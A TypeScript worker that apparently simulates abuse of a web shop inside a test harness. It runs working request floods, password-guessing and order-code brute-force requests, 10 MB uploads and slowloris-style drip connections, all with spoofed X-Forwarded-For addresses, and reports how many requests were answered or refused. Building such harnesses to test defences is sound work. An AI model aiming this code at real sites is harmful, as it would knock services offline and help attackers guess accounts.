import { randomBytes, randomInt } from 'node:crypto'
import { connect, type Socket } from 'node:net'
import { constants, setPriority } from 'node:os'
import autocannon from 'autocannon'
import type { Attack } from '../attacks.js'
import { receiveSetup } from './listen.js'

export interface Setup {
  readonly origin: string
  readonly attack: Attack
  /** True when each request comes from another address; else all come from one. */
  readonly isSpread: boolean
}

/** What came back to the attacker. */
export interface Loot {
  readonly answered: number
  /** Answers 4xx and 503. */
  readonly refused: number
  readonly failed: number
}

const FORM = { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-site': 'same-origin' }
const TEN_MEGABYTES = Buffer.alloc(10_000_000, 'a')
const SLOW_CONNECTIONS = 1500
/** New ones each second, until there are so many as above. */
const OPENED_A_SECOND = 500
const WORDS = 'mat ong rung ca phe rang xay nam linh chi tieu den sau rieng say ruou can banh trang mam nem chua'.split(
  ' ',
)

// A real one brings its own processors: here it takes what the shop leaves.
setPriority(constants.priority.PRIORITY_LOW)

const { origin, attack, isSpread } = await receiveSetup<Setup>()
const { hostname, port, host } = new URL(origin)

const address = (): string =>
  isSpread ? `100.${randomInt(64, 128)}.${randomInt(256)}.${randomInt(256)}` : '203.0.113.7'
const phone = (): string => `09${String(randomInt(10_000_000, 99_999_999))}`
const search = (): string =>
  Array.from({ length: 8 }, () => `${WORDS[randomInt(WORDS.length)] ?? ''}${randomBytes(1).toString('hex')}`).join(
    '%20',
  )

type Made = Pick<autocannon.Request, 'method' | 'path' | 'headers' | 'body'>

const REQUESTS: Partial<Record<Attack, () => Made>> = {
  'addresses that no page has': () => ({ path: `/wp-content/${randomBytes(6).toString('hex')}.php` }),
  'wrong passwords': () => ({
    method: 'POST',
    path: '/account/sign-in',
    headers: FORM,
    body: `identifier=${phone()}&password=${randomBytes(6).toString('hex')}`,
  }),
  'look-ups of order codes': () => ({
    method: 'POST',
    path: '/orders',
    headers: FORM,
    body: `code=${randomBytes(5).toString('hex').toUpperCase()}&phone=${phone()}`,
  }),
  'long searches that nobody made before': () => ({ path: `/products?q=${search()}` }),
  'bodies of 10 MB': () => ({ method: 'POST', path: '/cart', headers: FORM, body: TEN_MEGABYTES }),
}

/** As many requests as are answered, on 50 connections. */
function flood(make: () => Made): { end: () => Loot } {
  let refused = 0
  let answered = 0
  const plan: autocannon.Options = {
    url: origin,
    connections: attack === 'bodies of 10 MB' ? 10 : 50,
    duration: 3600,
    timeout: 60,
    requests: [
      {
        setupRequest: (request) => {
          const made = make()
          return { ...request, ...made, headers: { ...made.headers, 'x-forwarded-for': address() } }
        },
        onResponse: (status) => {
          answered += 1
          // 503: who signs in while very many others do comes again later.
          if ((status >= 400 && status < 500) || status === 503) refused += 1
        },
      },
    ],
  }
  const instance = autocannon(plan, () => undefined)
  let failed = 0
  instance.on('reqError', () => (failed += 1))
  return {
    end: () => {
      instance.stop()
      return { answered, refused, failed }
    },
  }
}

/** Connections that are opened again when they are cut, and send next to nothing. */
function hold(): { end: () => Loot } {
  const open = new Set<Socket>()
  let [answered, failed] = [0, 0]
  const begin = (): void => {
    const socket = connect(Number(port), hostname)
    open.add(socket)
    socket.on('data', () => (answered += 1))
    socket.on('error', () => (failed += 1))
    socket.on('close', () => open.delete(socket))
    socket.on('connect', () => {
      const head = `POST /cart HTTP/1.1\r\nHost: ${host}\r\nX-Forwarded-For: ${address()}\r\n`
      if (attack === 'headers that drip') socket.write(head)
      if (attack === 'bodies that drip')
        socket.write(`${head}Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 50000\r\n\r\n`)
    })
  }
  const opening = setInterval(() => {
    for (let n = 0; n < OPENED_A_SECOND / 10 && open.size < SLOW_CONNECTIONS; n += 1) begin()
  }, 100)
  const dripping = setInterval(() => {
    if (attack === 'connections that say nothing') return
    for (const socket of open) if (!socket.connecting) socket.write(attack === 'headers that drip' ? 'X-A: b\r\n' : 'a')
  }, 1000)
  return {
    end: () => {
      clearInterval(opening)
      clearInterval(dripping)
      for (const socket of open) socket.destroy()
      return { answered, refused: answered, failed }
    },
  }
}

const make = REQUESTS[attack]
const running = make ? flood(make) : hold()
process.send?.('attacking')
process.once('message', () => {
  process.send?.(running.end())
  setTimeout(() => process.exit(0), 500)
})
